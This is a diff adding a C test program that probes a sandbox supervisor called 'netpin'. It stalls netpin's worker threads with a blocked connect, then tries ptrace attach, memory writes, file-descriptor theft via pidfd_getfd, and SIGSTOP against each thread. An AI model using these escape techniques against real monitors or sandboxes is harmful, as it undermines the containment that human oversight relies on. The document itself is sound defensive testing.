@@ -1,0 +1,113 @@
+/*
+ * Attack: netpin's other threads.  The filter protects netpin's pid; a
+ * blocking connect makes netpin finish it in a worker thread, whose tid is
+ * not that pid.  We make one hang (a listener of our own, backlog 0, queue
+ * filled: run with -a 127.0.0.2 so that any port is allowed), find netpin's
+ * threads in /proc/PPID/task, and aim at each: ptrace SEIZE,
+ * process_vm_writev, pidfd_open(PIDFD_THREAD) + pidfd_getfd, tkill/kill
+ * with SIGSTOP (reported per kind; never SIGKILL first), then the basic
+ * probes.
+ * usage: netpin_threads PORT [UDPPORT]
+ */
+#include "common.h"
+#include <dirent.h>
+#include <sys/ptrace.h>
+#include <sys/uio.h>
+
+static struct sockaddr_in lsa;
+
+static void *
+hang(void *arg)
+{
+	int fd = socket(AF_INET, SOCK_STREAM, 0);
+
+	(void)arg;
+	connect(fd, (struct sockaddr *)&lsa, sizeof(lsa)); /* blocks in netpin */
+	return NULL;
+}
+
+static void
+on_alarm(int s)
+{
+	(void)s;
+}
+
+int
+main(int argc, char **argv)
+{
+	pid_t pp = getppid();
+	char path[64], probes[256], local[8] = "x", res[1024] = "";
+	struct iovec l = { local, sizeof(local) }, r = { (void *)0x400000, sizeof(local) };
+	socklen_t sl = sizeof(lsa);
+	int lfd, c1, c2, nthreads = 0, worst = 0;
+	size_t off = 0;
+	struct sigaction sa;
+	pthread_t t;
+	DIR *d;
+	struct dirent *e;
+
+	ports(argc, argv);
+	memset(&sa, 0, sizeof(sa));
+	sa.sa_handler = on_alarm;
+	sigaction(SIGALRM, &sa, NULL);
+	lsa = sin4(ALLOWED, 0);
+	lfd = socket(AF_INET, SOCK_STREAM, 0);
+	if (bind(lfd, (struct sockaddr *)&lsa, sizeof(lsa)) || listen(lfd, 0) ||
+	    getsockname(lfd, (struct sockaddr *)&lsa, &sl)) {
+		printf("netpin_threads: setup: %s\n", ename(errno));
+		return 0;
+	}
+	/* fill the accept queue: further SYNs are dropped */
+	c1 = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+	connect(c1, (struct sockaddr *)&lsa, sizeof(lsa));
+	c2 = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+	connect(c2, (struct sockaddr *)&lsa, sizeof(lsa));
+	usleep(50000);
+	pthread_create(&t, NULL, hang, NULL);
+	pthread_create(&t, NULL, hang, NULL);
+	usleep(300000);
+
+	snprintf(path, sizeof(path), "/proc/%d/task", (int)pp);
+	d = opendir(path);
+	while (d && (e = readdir(d))) {
+		pid_t tid = atoi(e->d_name);
+		long pfd;
+		const char *a, *w, *po, *g = "-", *tk, *k;
+
+		if (tid <= 0 || tid == pp)
+			continue;
+		nthreads++;
+		a = RES(ptrace(PTRACE_SEIZE, tid, 0, 0));
+		w = RES(process_vm_writev(tid, &l, 1, &r, 1, 0));
+		pfd = syscall(SYS_pidfd_open, tid, O_EXCL /* PIDFD_THREAD */);
+		po = pfd < 0 ? ename(errno) : "ok";
+		if (pfd >= 0) {
+			long fd = syscall(SYS_pidfd_getfd, (int)pfd, 3, 0);
+
+			g = fd < 0 ? ename(errno) : "ok";
+			if (fd >= 0)
+				close((int)fd);
+			close((int)pfd);
+		}
+		tk = RES(syscall(SYS_tkill, tid, SIGSTOP));
+		k = RES(kill(tid, SIGSTOP));
+		if (!strcmp(a, "ok") || !strcmp(w, "ok") || !strcmp(g, "ok") ||
+		    !strcmp(tk, "ok") || !strcmp(k, "ok"))
+			worst = 1;
+		if (off < sizeof(res) - 200)
+			off += (size_t)snprintf(res + off, sizeof(res) - off,
+			    " [tid ptrace_seize=%s process_vm_writev=%s pidfd_open_thread=%s "
+			    "pidfd_getfd=%s tkill_SIGSTOP=%s kill_SIGSTOP=%s]", a, w, po, g, tk, k);
+	}
+	if (d)
+		closedir(d);
+	if (worst) /* in case a SIGSTOP got through: let it go on */
+		kill(pp, SIGCONT);
+	alarm(3);
+	probe_all(probes, sizeof(probes), "threads");
+	alarm(0);
+	printf("netpin_threads: netpin_threads_found=%d any_succeeded=%d%s %s\n",
+	    nthreads, worst, res, probes);
+	fflush(stdout);
+	_exit(0); /* the hanging threads go with us */
+}
